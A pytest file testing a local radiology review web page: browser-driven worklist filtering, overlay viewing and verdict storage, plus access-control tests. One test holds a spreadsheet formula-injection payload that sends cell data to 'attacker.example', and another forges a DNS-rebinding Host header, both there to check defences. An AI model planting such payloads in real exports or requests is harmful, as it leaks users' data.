"""The review page as a radiologist uses it: a real server, headless Chromium, verdicts in the catalog."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

from models.config import from_flat
from models.evaluation import Calibration, Scoring
from models.nets import build_model
from models.weights import save_checkpoint, state_arrays

BROWSER_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]


# The lung model carries its run's calibration and operating point, as a federated run's global model does.
# Its threshold splits the worklist's lung positives (calibrated scores 0.10-0.15 of this untrained network).
LUNG_SCORING = Scoring(Calibration(2.0, 0.3, 20, 20, "validation histograms, all sites pooled"), 0.25,
                       "Youden's J (sensitivity + specificity - 1) maximised on validation")


def save_model(path: Path, task: str, seed: int, scoring: Scoring | None = None) -> Path:
    torch.manual_seed(seed)
    flat = {"task": task, "model-width": 8}
    save_checkpoint(path, state_arrays(build_model(from_flat(flat).model)), flat, round_number=0, scoring=scoring)
    return path


def _score(text: str) -> float:
    match = re.search(r"[0-9]+\.[0-9]+", text)
    assert match is not None, text
    return float(match.group())


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    from consortium import make_workspaces

    root = tmp_path_factory.mktemp("review")
    ws = make_workspaces(root, sites=1, studies_per_task=6, seed=5, tasks=["lung-ct", "breast-mg"]) / "site-a"
    with sqlite3.connect(ws / "catalog.sqlite") as db:  # a study without a label, as most at a real site
        db.execute("DELETE FROM labels WHERE study_uid = (SELECT MIN(study_uid) FROM labels WHERE task='lung-ct')")
    return ws, save_model(root / "lung.pt", "lung-ct", 1, LUNG_SCORING), save_model(root / "breast.pt", "breast-mg", 2)


def cli(*args: str, **kw: object) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "fl_client.cli", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env={**os.environ, "COLUMNS": "200"}, **kw)  # type: ignore[call-overload]


@pytest.fixture(scope="module")
def server(site: tuple[Path, Path, Path]) -> Iterator[str]:
    ws, lung, breast = site
    proc = cli("review", "--workspace", str(ws), "--model", str(lung), "--model", str(breast), "--port", "0")
    url = None
    deadline = time.monotonic() + 180
    assert proc.stdout is not None
    while url is None and time.monotonic() < deadline:
        line = proc.stdout.readline()
        if not line:
            pytest.fail(f"review server exited: {proc.stderr.read() if proc.stderr else ''}")
        if "Review page:" in line:
            url = line.split("Review page:")[1].split()[0].rstrip("/")
    assert url is not None and url.startswith("http://127.0.0.1:"), "the page is bound to loopback by default"
    while time.monotonic() < deadline:
        try:
            urllib.request.urlopen(url + "/", timeout=5).read()
            break
        except OSError:
            time.sleep(0.2)
    yield url
    proc.send_signal(signal.SIGINT)
    assert proc.wait(timeout=30) == 0, "Ctrl-C stops the server cleanly"


def post(url: str, body: dict[str, str], token: str | None) -> tuple[int, dict[str, object]]:
    headers = {"Content-Type": "application/json", **({"X-Review-Token": token} if token else {})}
    request = urllib.request.Request(url, data=json.dumps(body).encode(), headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


@pytest.mark.slow
def test_worklist_study_overlay_verdict_in_a_real_browser(site: tuple[Path, Path, Path], server: str,
                                                          tmp_path: Path) -> None:
    from conftest import system_tool
    from playwright.sync_api import expect, sync_playwright

    chromium = system_tool("chromium")
    ws, lung, _ = site
    with sync_playwright() as pw:
        # Playwright gives the browser a fresh, empty profile folder of its own.
        browser = pw.chromium.launch(executable_path=chromium, headless=True, args=BROWSER_FLAGS)
        page = browser.new_page(viewport={"width": 1400, "height": 950})
        errors: list[str] = []
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(server + "/")
        rows = page.locator("tr.case")
        expect(rows.first).to_be_visible()
        total = rows.count()
        assert total >= 12  # lung volumes and the mammograms' views

        # Filters: task, then label; the count follows. The unlabelled study shows as unknown.
        page.select_option("#filter-label", "none")
        assert page.locator("tr.case td:nth-child(5)").all_inner_texts() == ["?"]
        page.select_option("#filter-label", "")
        page.select_option("#filter-task", "breast-mg")
        assert set(page.locator("tr.case td:nth-child(2)").all_inner_texts()) == {"breast-mg"}
        page.select_option("#filter-task", "lung-ct")
        page.select_option("#filter-label", "1")
        lung_positive = rows.count()
        assert 0 < lung_positive < total
        assert set(page.locator("tr.case td:nth-child(5)").all_inner_texts()) == {"1"}
        # Sorting by score: descending by default, ascending on a second click.
        page.click("th[data-sort=probability]")
        scores = [_score(t) for t in page.locator("tr.case td.score").all_inner_texts()]
        assert scores == sorted(scores)
        page.click("th[data-sort=probability]")
        cells = page.locator("tr.case td.score").all_inner_texts()
        scores = [_score(t) for t in cells]
        assert scores == sorted(scores, reverse=True)
        # Calibrated scores; a mark on those at or above the run's operating point (decided on the network's own
        # score, as the server counted it; the API row carries the call).
        shown_threshold = LUNG_SCORING.shown_threshold
        assert shown_threshold is not None
        api = {r["key"]: r for r in page.request.get(server + "/api/worklist").json()["rows"]}
        keys = page.locator("tr.case").evaluate_all("rows => rows.map(r => r.dataset.key)")
        marks = ["\u25cf" in t for t in cells]
        assert marks == [api[k]["call"] for k in keys] and 0 < sum(marks) < len(marks)
        assert all(api[k]["call"] == (api[k]["probability"] >= shown_threshold) for k in keys  # the display agrees
                   if abs(api[k]["probability"] - shown_threshold) > 1e-3)  # (the rows round to 4 decimals)

        # Open the highest-scored positive study.
        rows.first.click()
        expect(page.locator("#study")).to_be_visible()
        expect(page.locator("#score-label")).to_have_text("model probability (calibrated)")
        call = "at or above" if api[keys[0]]["call"] else "below"
        expect(page.locator("#score")).to_have_text(f"{scores[0]:.3f} \u2014 {call} the operating point "
                                                    f"{shown_threshold:.3f} ({LUNG_SCORING.rule})")
        expect(page.locator("#label")).to_have_text("positive (1)")
        overlay_loaded = ("m => { const i = document.getElementById('overlay-img'); "
                          "return i.complete && i.naturalWidth > 0 && i.src.includes('/maps/' + m + '/'); }")
        page.wait_for_function(overlay_loaded, arg="gradcam")
        # Scroll slices with the slider and with the mouse wheel.
        page.locator("#slice").fill("3")
        expect(page.locator("#slice-img")).to_have_attribute("src", re.compile(r"/slices/3\.png"))
        page.locator("#stage").hover()
        page.mouse.wheel(0, 120)
        expect(page.locator("#slice-label")).to_contain_text("5 /")
        # Method switch, opacity, window/level preset.
        page.select_option("#method", "gradcampp")
        page.wait_for_function(overlay_loaded, arg="gradcampp")
        page.locator("#opacity").fill("80")
        assert page.eval_on_selector("#overlay-img", "e => e.style.opacity") == "0.8"
        page.select_option("#wl", label="lung (C -600 / W 1500)")
        expect(page.locator("#slice-img")).to_have_attribute("src", re.compile("center=-600"))
        page.wait_for_function("document.getElementById('slice-img').complete && "
                               "document.getElementById('slice-img').naturalWidth > 0")

        # A verdict without a choice is refused on the page; then the real one.
        page.click("#save")
        expect(page.locator("#status")).to_have_text("choose agree, disagree or unsure")
        page.check("input[name=verdict][value=disagree]")
        page.fill("#comment", "map on the vessel, nodule at the apex missed")
        page.fill("#reader", "AB")
        page.click("#save")
        expect(page.locator("#status")).to_contain_text("saved")
        expect(page.locator("#history li").first).to_contain_text("disagree by AB")
        page.select_option("#filter-reviewed", "yes")
        expect(rows).to_have_count(1)
        expect(rows.first.locator("td").last).to_have_text("disagree (AB)")
        shot = tmp_path / "review.png"
        page.screenshot(path=str(shot), full_page=True)
        assert shot.stat().st_size > 20_000
        csv_text = page.request.get(server + "/api/verdicts.csv").text()
        token = page.evaluate("TOKEN")
        key = page.evaluate("state.meta.key")
        assert not errors, errors
        browser.close()

    # The verdict landed in the site catalog with the time, the reader and the model's hash.
    with sqlite3.connect(ws / "catalog.sqlite") as db:
        db.row_factory = sqlite3.Row
        (row,) = db.execute("SELECT * FROM review_verdicts").fetchall()
    assert row["verdict"] == "disagree" and row["reader"] == "AB" and row["image_key"] == key
    assert row["comment"] == "map on the vessel, nodule at the apex missed" and row["task"] == "lung-ct"
    lung_sha256 = hashlib.sha256(lung.read_bytes()).hexdigest()
    assert row["model_sha256"] == lung_sha256 and row["label"] == 1 and abs(time.time() - row["created"]) < 600
    (exported,) = list(csv.DictReader(io.StringIO(csv_text)))
    assert exported["verdict"] == "disagree" and exported["model_sha256"] == lung_sha256

    # The API refuses what the page would not send: no token, bad initials, an unknown verdict.
    verdicts = f"{server}/api/images/{key}/verdicts"
    assert post(verdicts, {"verdict": "agree", "reader": "AB"}, None)[0] == 403
    status, body = post(verdicts, {"verdict": "agree", "reader": "1"}, token)
    assert status == 422 and "initials" in str(body["error"])
    status, body = post(verdicts, {"verdict": "maybe", "reader": "AB"}, token)
    assert status == 422 and "agree, disagree, unsure" in str(body["error"])

    # The CLI exports the same verdicts.
    out = tmp_path / "verdicts.csv"
    done = cli("review", "--workspace", str(ws), "--export-csv", str(out))
    assert done.wait(timeout=120) == 0 and "disagree" in out.read_text()


def _request(url: str, *, headers: dict[str, str] | None = None, data: bytes | None = None) -> tuple[int, bytes,
                                                                                                     dict[str, str]]:
    request = urllib.request.Request(url, data=data, headers=headers or {}, method="POST" if data else "GET")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read(), dict(response.headers)
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(), dict(exc.headers)


def test_the_page_answers_only_its_own_address_and_token(server: str) -> None:
    port = server.rsplit(":", 1)[1]
    # Without the page's token nothing of the site is served, not even the worklist or the CSV export.
    for path in ("/api/worklist", "/api/verdicts.csv"):
        assert _request(server + path)[0] == 403
    # A page at another name that resolves to this machine (DNS rebinding) gets nothing, not even the page.
    assert _request(server + "/", headers={"Host": f"rebind.attacker.example:{port}"})[0] == 421
    assert _request(server + "/api/worklist", headers={"Host": f"127.0.0.1:{int(port) + 1}"})[0] == 421
    # The page itself sets the token as a same-site cookie, which reads carry; changes need the header.
    status, page, headers = _request(server + "/")
    assert status == 200 and "SameSite=strict" in headers["set-cookie"] and "HttpOnly" in headers["set-cookie"]
    cookie = headers["set-cookie"].split(";")[0]
    token = page.decode().split('const TOKEN = "')[1].split('"')[0]
    assert _request(server + "/api/worklist", headers={"Cookie": cookie})[0] == 200
    status, body, _ = _request(server + "/api/worklist", headers={"Cookie": cookie})
    key = json.loads(body)["rows"][0]["key"]
    verdicts = f"{server}/api/images/{key}/verdicts"
    assert post(verdicts, {"verdict": "agree", "reader": "AB"}, None)[0] == 403  # a cookie alone cannot post
    # A 300 KB body is refused before it is read, with or without the token.
    big = json.dumps({"verdict": "agree", "reader": "AB", "comment": "x" * 300_000}).encode()
    assert _request(verdicts, data=big, headers={"Content-Type": "application/json"})[0] == 403
    assert _request(verdicts, data=big, headers={"Content-Type": "application/json", "X-Review-Token": token})[0] \
        == 413
    # A comment that a spreadsheet would run as a formula is exported as text.
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    assert post(verdicts, {"verdict": "unsure", "reader": "CD", "comment": formula}, token)[0] == 200
    exported = _request(server + "/api/verdicts.csv", headers={"Cookie": cookie})[1].decode()
    (row,) = [r for r in csv.DictReader(io.StringIO(exported)) if r["reader"] == "CD"]
    assert row["comment"] == "'" + formula


def test_review_refuses_bad_input_in_one_line(site: tuple[Path, Path, Path], tmp_path: Path) -> None:
    ws, lung, _ = site
    procs = []
    for args, needle in [(["--workspace", str(ws), "--model", str(lung), "--host", "0.0.0.0"],
                          "listens on this machine only"),
                         (["--workspace", str(ws), "--model", str(lung), "--port", "99999"], "from 1 to 65535"),
                         (["--workspace", str(tmp_path / "nope"), "--model", str(lung)], "does not exist"),
                         (["--workspace", str(ws)], "give the model"),
                         (["--workspace", str(ws), "--model", str(tmp_path / "x.pt")], "does not exist"),
                         (["--workspace", str(ws), "--model", str(lung), "--model", str(lung)], "one model per task"),
                         (["--workspace", str(ws), "--model", str(lung), "--method", "lime"], "expected gradcam")]:
        procs.append((cli("review", *args), needle))  # side by side: each is mostly interpreter start-up
    for proc, needle in procs:
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 2 and needle in err and "Traceback" not in err, err
